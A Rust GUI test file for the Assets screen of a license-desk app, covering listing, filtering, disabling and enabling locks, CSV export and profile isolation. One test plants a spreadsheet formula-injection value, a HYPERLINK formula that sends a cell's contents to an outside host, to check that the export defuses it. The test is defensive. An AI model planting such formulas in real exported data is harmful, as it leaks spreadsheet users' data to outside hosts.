//! The Assets screen: an enterprise's assets listed, filtered, locked and unlocked, exported; acted
//! on only in their own profile.

use std::time::Duration;

use egui_kittest::Harness;
use egui_kittest::kittest::Queryable;
use license_desk::core::{Call, JournalFilter, Profile};
use license_desk::ui::DeskApp;
use license_desk::ui::text::i18n::Lang;
use platform::Region;

use test_support::desk::{self, CallOn};
use test_support::remote::Remote;
use test_support::window::{app, app_sized, click, settle, type_into};

use crate::save_staging;

fn list_demo_assets(harness: &mut Harness<'static, DeskApp>) {
    click(harness, "Assets");
    type_into(harness, "Enterprise global id", "EG0000000001");
    click(harness, "List assets");
    settle(harness, |h| h.query_by_label("8900000001").is_some());
}

/// Closing a listing drops its rows, selection and filter and shows the start text again; the
/// same enterprise lists again after it, with its disabled locks as the platform keeps them.
#[test]
fn a_closed_listing_goes_and_lists_again() {
    let dir = tempfile::tempdir().expect("dir");
    let mut harness = app(dir.path(), Lang::En);
    harness.run_ok();
    list_demo_assets(&mut harness);
    type_into(&mut harness, "Filter", "8900000001");
    click(&mut harness, "8900000001");
    harness.get_by_label("1 selected (1 lock)");
    click(&mut harness, "Close the listing");
    assert!(harness.query_by_label("8900000001").is_none());
    assert!(harness.query_by_label("Filter").is_none());
    harness.get_by_label_contains("Enter an enterprise global id and list its assets");
    click(&mut harness, "List assets");
    settle(&mut harness, |h| h.query_by_label("8900000002").is_some());
    harness.get_by_label_contains("of 8 assets");
    harness.get_by_label("0 selected (0 locks)");
}

/// The grid's default columns fit the default window and a small one; opening a row shows its
/// details below it without moving any column; a disabled lock's badge stays in sight.
#[test]
fn the_asset_grid_fits_the_window_and_rows_open_below() {
    for (width, height) in [(1100.0, 720.0), (900.0, 600.0)] {
        let dir = tempfile::tempdir().expect("dir");
        let store = desk::mock_store();
        let size = egui::vec2(width, height);
        let mut harness = app_sized(dir.path(), Lang::En, store, size);
        harness.run_ok();
        list_demo_assets(&mut harness);
        let headers = [
            "Asset number",
            "License type",
            "Chip",
            "Customer id",
            "State",
            "Validity",
            "Extensions",
            "Products",
        ];
        let places = |h: &Harness<'static, DeskApp>| -> Vec<egui::Rangef> {
            // The titles are sort buttons.
            let title = |t: &&str| {
                h.get_by_role_and_label(egui::accesskit::Role::Button, t)
                    .rect()
            };
            // Where each column is across; the results panel above may move the grid down.
            headers.iter().map(title).map(|r| r.x_range()).collect()
        };
        let before = places(&harness);
        for (title, range) in headers.iter().zip(&before) {
            assert!(range.max <= width, "{title} at {range:?} in {width} px");
        }
        // Open the row of a lock, disable it: the columns stay where they were.
        click(&mut harness, "8900000001");
        click(&mut harness, "Disable selected");
        click(&mut harness, "Disable 1 lock");
        settle(&mut harness, |h| h.query_by_label("disabled").is_some());
        click(&mut harness, "Open the row of 8900000001");
        harness.get_by_label_contains("Assignment: ");
        assert_eq!(places(&harness), before, "{width} px");
        let badge = harness.get_by_label("disabled").rect();
        assert!(badge.right() <= width, "the badge at {badge:?}");
        // The export path and its button are on screen (the bar wraps when narrow).
        assert!(harness.get_by_label("Export CSV").rect().right() <= width);
    }
}

#[test]
fn assets_filter_lock_two_refuse_a_softkey_and_unlock_by_pasted_numbers() {
    let dir = tempfile::tempdir().expect("dir");
    let mut harness = app(dir.path(), Lang::En);
    harness.run_ok();
    list_demo_assets(&mut harness);
    // Readable values: the type in words, the large customer's validity as dates.
    assert_eq!(
        harness
            .get_all_by_label("stand-alone lock, re-issuable")
            .count(),
        3
    );

    // Filter to the re-issuable stand-alone locks.
    type_into(&mut harness, "Filter", "normal_recover_usbkey");
    harness.get_by_label_contains("3 of ");
    assert!(harness.query_by_label("8900000004").is_none());

    // Select two with click and ctrl-click, disable them with one confirmation.
    click(&mut harness, "8900000001");
    harness
        .get_by_label("8900000002")
        .click_modifiers(egui::Modifiers::COMMAND);
    harness.run_ok();
    harness.get_by_label("2 selected (2 locks)");
    assert!(harness.query_by_label("disabled").is_none());
    click(&mut harness, "Disable selected");
    harness.get_by_label("Disable 2 locks?");
    harness.get_by_label("This can be undone: enabling them again gives them back to their users.");
    harness.get_by_label("On the profile Sandbox");
    harness.get_by_label("Operator: sandbox-admin (set in the profile)");
    // The confirmation's button has the keyboard's focus: Enter disables them (issue 56).
    harness.key_press(egui::Key::Enter);
    harness.run_ok();
    settle(&mut harness, |h| {
        h.query_by_label("Disable: 2 of 2 succeeded").is_some()
    });
    assert_eq!(harness.query_all_by_label("success").count(), 2);
    // The badge in the grid.
    assert_eq!(harness.query_all_by_label("disabled").count(), 2);

    // The results and the view as CSV that spreadsheets read as UTF-8.
    let view = dir.path().join("view.csv");
    type_into(&mut harness, "Export to", &view.display().to_string());
    click(&mut harness, "Export results");
    let results = dir.path().join("view-results.csv");
    settle(&mut harness, |_| results.exists());
    assert_eq!(
        std::fs::read_to_string(&results).expect("results"),
        "\u{feff}Asset number,Status,Meaning\n8900000001,1,success\n8900000002,1,success\n"
    );
    // The file is written before the core says so: the export buttons wait for its word.
    settle(&mut harness, |h| {
        use egui_kittest::kittest::NodeT as _;
        !h.get_by_label("Export CSV").accesskit_node().is_disabled()
    });
    click(&mut harness, "Export CSV");
    settle(&mut harness, |_| view.exists());
    let csv = std::fs::read_to_string(&view).expect("view");
    let lines: Vec<&str> = csv.lines().collect();
    assert_eq!(
        lines[0],
        "\u{feff}Asset number,License type,Chip,Customer id,State,Validity,Extensions,Products"
    );
    assert_eq!(lines.len(), 4, "the header and the three rows shown: {csv}");
    assert!(
        lines[1].starts_with(
            "8900000001,\"stand-alone lock, re-issuable (normal_recover_usbkey)\",5th generation,CU"
        ),
        "{csv}"
    );

    // A softkey is not a lock that can be disabled: it is left out, and nothing is sent.
    type_into(&mut harness, "Filter", "softkey");
    click(&mut harness, "8900000007");
    harness.get_by_label("1 selected (0 locks)");
    click(&mut harness, "Disable selected");
    harness.get_by_label("Nothing to disable");
    harness.get_by_label("1 asset is left out: it cannot be disabled or enabled (stand-alone certificate). Only re-issuable locks, and locks ordered with a validity window, can.");
    assert!(harness.query_by_label_contains("Disable 1 lock").is_none());
    let cancel_at = harness.get_by_label("Cancel").rect();
    click(&mut harness, "Cancel");
    // Typed by number, the listing knows it too: left out the same way, nothing sent.
    click(&mut harness, "Disable or enable by numbers…");
    type_into(
        &mut harness,
        "Asset numbers: typed or pasted, separated by lines, spaces, commas or semicolons",
        "8900000007",
    );
    click(&mut harness, "Disable these");
    harness.get_by_label("Nothing to disable");
    harness.get_by_label_contains("1 asset is left out: it cannot be disabled or enabled (");
    click(&mut harness, "Cancel");
    // Closed, the listing knows nothing: the number reaches the platform, which refuses it
    // as the wrong type.
    click(&mut harness, "Close the listing");
    click(&mut harness, "Disable or enable by numbers…");
    type_into(
        &mut harness,
        "Asset numbers: typed or pasted, separated by lines, spaces, commas or semicolons",
        "8900000007",
    );
    click(&mut harness, "Disable these");
    click(&mut harness, "Disable 1 lock");
    settle(&mut harness, |h| {
        h.query_by_label("Disable: 0 of 1 succeeded").is_some()
    });
    harness.get_by_label("wrong lock type");
    harness.get_by_label("Disable · refused");
    click(&mut harness, "List assets");
    settle(&mut harness, |h| h.query_by_label("8900000001").is_some());

    // Every row: only the locks not disabled yet are asked for; the others are counted.
    type_into(&mut harness, "Filter", "");
    click(&mut harness, "Select all shown");
    harness.get_by_label("8 selected (5 locks)");
    click(&mut harness, "Disable selected");
    harness.get_by_label("Disable 3 locks?");
    harness.get_by_label_contains("3 assets are left out: they cannot be disabled or enabled (");
    harness.get_by_label("2 locks are left out: they are disabled already.");
    harness.get_by_label("8900000003, 8900000004, 8900000005");
    // Another question, more lines: the buttons are where they were.
    assert_eq!(harness.get_by_label("Cancel").rect(), cancel_at);
    click(&mut harness, "Cancel");
    click(&mut harness, "Clear selection");

    // Enable by pasted numbers, one of which does not exist.
    click(&mut harness, "Disable or enable by numbers…");
    type_into(
        &mut harness,
        "Asset numbers: typed or pasted, separated by lines, spaces, commas or semicolons",
        "8900000001, 8900000002\n8999999999",
    );
    harness.get_by_label("3 numbers");
    click(&mut harness, "Enable these");
    click(&mut harness, "Enable 3 locks");
    settle(&mut harness, |h| {
        h.query_by_label("Enable: 2 of 3 succeeded").is_some()
    });
    harness.get_by_label("no such lock");
    type_into(&mut harness, "Filter", "");
    assert!(harness.query_by_label("disabled").is_none());
}

/// Lock and unlock say who acts: a profile without an operator identity has it asked in the
/// confirmation, which cannot be sent without one, and the platform records the one typed.
#[test]
fn a_lock_is_never_disabled_without_an_operator() {
    let dir = tempfile::tempdir().expect("dir");
    let mut harness = app(dir.path(), Lang::En);
    harness.run_ok();
    let sandbox = Profile {
        operator_identity: String::new(),
        ..Profile::sandbox()
    };
    harness
        .state()
        .core()
        .run(
            license_desk::core::profiles::requests::Save {
                previous: Some("Sandbox".into()),
                profile: sandbox,
                app_secret: None,
            },
            Duration::from_secs(60),
        )
        .expect("profile saved");
    list_demo_assets(&mut harness);
    click(&mut harness, "8900000003");
    click(&mut harness, "Disable selected");
    harness.get_by_label("Disable 1 lock?");
    harness.get_by_label_contains("Required: the platform records who disabled");
    // Disabled: a click does not send it, and the confirmation stays.
    click(&mut harness, "Disable 1 lock");
    harness.get_by_label("Disable 1 lock?");
    type_into(&mut harness, "Operator identity", "li.si@example.com");
    assert!(
        harness
            .query_by_label_contains("Required: the platform")
            .is_none()
    );
    click(&mut harness, "Disable 1 lock");
    settle(&mut harness, |h| {
        h.query_by_label("Disable: 1 of 1 succeeded").is_some()
    });
    let platform = dir.path().join("data/sandbox/platform/platform.sqlite3");
    let read_only = rusqlite::OpenFlags::SQLITE_OPEN_READ_ONLY;
    let operator: String = rusqlite::Connection::open_with_flags(platform, read_only)
        .and_then(|db| {
            db.query_row(
                "SELECT operator FROM lock_events WHERE asset_num = '8900000003'",
                [],
                |row| row.get(0),
            )
        })
        .expect("the lock's event");
    assert_eq!(operator, "li.si@example.com");
}

/// Shown data stays with the profile it came from: a confirmation opened on the Sandbox's
/// listing cannot be carried out on a profile activated after it, and the results of a lock
/// confirmed on the Sandbox stay, naming it, after another profile becomes active.
#[test]
fn assets_listed_on_one_profile_are_never_acted_on_in_another() {
    let mut remote = Remote::start(Region::default());
    let dir = tempfile::tempdir().expect("dir");
    let mut harness = app(dir.path(), Lang::En);
    harness.run_ok();
    save_staging(&harness, &remote, true);
    let activate = |h: &mut Harness<'static, DeskApp>, name: &str| {
        h.state()
            .core()
            .run(
                license_desk::core::profiles::requests::Activate { name: name.into() },
                Duration::from_secs(60),
            )
            .expect("activated");
    };

    // A row's Disable on the Sandbox's listing asks first, naming the Sandbox...
    list_demo_assets(&mut harness);
    click(&mut harness, "8900000001");
    click(&mut harness, "Disable selected");
    harness.get_by_label("On the profile Sandbox");
    // ...and another profile becomes active before the user answers.
    activate(&mut harness, "Staging");
    settle(&mut harness, |h| h.query_by_label("PRODUCTION").is_some());
    // The question, the listing and its selection are gone; the screen says why.
    assert!(harness.query_by_label("Disable 1 lock").is_none());
    assert!(harness.query_by_label("8900000001").is_none());
    harness.get_by_label(
        "The listing from the profile Sandbox was closed: another profile is active now.",
    );

    // Back on the Sandbox, in one click from the top bar: confirm a Disable, then switch.
    click(&mut harness, "Switch…");
    click(&mut harness, "Sandbox");
    settle(&mut harness, |h| {
        h.query_by_label("Use this profile · done").is_some()
    });
    assert_eq!(harness.state().core().state().profiles.active, "Sandbox");
    click(&mut harness, "List assets");
    settle(&mut harness, |h| h.query_by_label("8900000002").is_some());
    click(&mut harness, "8900000002");
    click(&mut harness, "Disable selected");
    harness.get_by_label("On the profile Sandbox");
    click(&mut harness, "Disable 1 lock");
    activate(&mut harness, "Staging");
    settle(&mut harness, |h| {
        h.query_by_label("Disable: 1 of 1 succeeded").is_some()
    });
    harness.get_by_label("On the profile Sandbox");

    // The journal: the one lock went to the Sandbox; Staging got none.
    let journal = harness
        .state()
        .core()
        .run(
            license_desk::core::journal::requests::Query(JournalFilter::default()),
            Duration::from_secs(60),
        )
        .expect("journal");
    let entries = journal;
    let locks: Vec<(&str, &str)> = entries
        .iter()
        .filter(|e| e.operation.name() == "lock")
        .map(|e| (e.profile.as_str(), e.request.as_deref().unwrap_or_default()))
        .collect();
    assert_eq!(locks.len(), 1, "{locks:?}");
    assert_eq!(locks[0].0, "Sandbox");
    assert!(locks[0].1.contains("8900000002"), "{locks:?}");
    harness.run_ok();
    remote.stop();
}

/// An asset number a platform accepted that a spreadsheet would run as a formula is exported
/// from the asset grid as text: its cell starts with `'`.
#[test]
fn an_asset_export_writes_a_formula_as_text() {
    let dir = tempfile::tempdir().expect("dir");
    let mut harness = app(dir.path(), Lang::En);
    harness.run_ok();
    let formula = "=HYPERLINK(\"http://example.com/?\"&B2,\"8100\")";
    let batch: license_desk::core::wire::BatchOrderRequest = serde_json::from_value(
        serde_json::json!({"channelCode": "SHOP", "channelOrderId": "FORMULA-1",
            "syncMode": "sync", "orderList": [{"sequence": 1, "channelCustomerId": "S-0001",
            "licenseType": "normal_recover_usbkey", "orderType": "new_buy",
            "assets": [{"assetNos": [formula], "products": [{"productUri": "gms:1"}]}]}]}),
    )
    .expect("batch");
    harness
        .state()
        .core()
        .run(
            CallOn {
                profile: "Sandbox".into(),
                call: Call::BatchOrder(batch),
            },
            Duration::from_secs(60),
        )
        .expect("the platform accepts it");
    list_demo_assets(&mut harness);
    let view = dir.path().join("formula.csv");
    type_into(&mut harness, "Export to", &view.display().to_string());
    click(&mut harness, "Export CSV");
    settle(&mut harness, |_| view.exists());
    let csv = std::fs::read_to_string(&view).expect("view");
    assert!(
        csv.lines().any(
            |l| l.starts_with("\"'=HYPERLINK(\"\"http://example.com/?\"\"&B2,\"\"8100\"\")\",")
        ),
        "{csv}"
    );
    assert!(!csv.lines().any(|l| l.starts_with("\"=")), "{csv}");
}

/// Issue 56: a lock's results come below the grid, not above it: the rows stay where they
/// were, so a second click lands on the row it was aimed at.
#[test]
fn lock_results_do_not_move_the_grid() {
    let dir = tempfile::tempdir().expect("dir");
    let mut harness = app(dir.path(), Lang::En);
    harness.run_ok();
    list_demo_assets(&mut harness);
    let before = harness.get_by_label("8900000002").rect();
    click(&mut harness, "8900000001");
    click(&mut harness, "Disable selected");
    harness.key_press(egui::Key::Enter);
    harness.run_ok();
    settle(&mut harness, |h| {
        h.query_by_label("Disable: 1 of 1 succeeded").is_some()
    });
    harness.run_ok();
    assert_eq!(harness.get_by_label("8900000002").rect(), before);
}
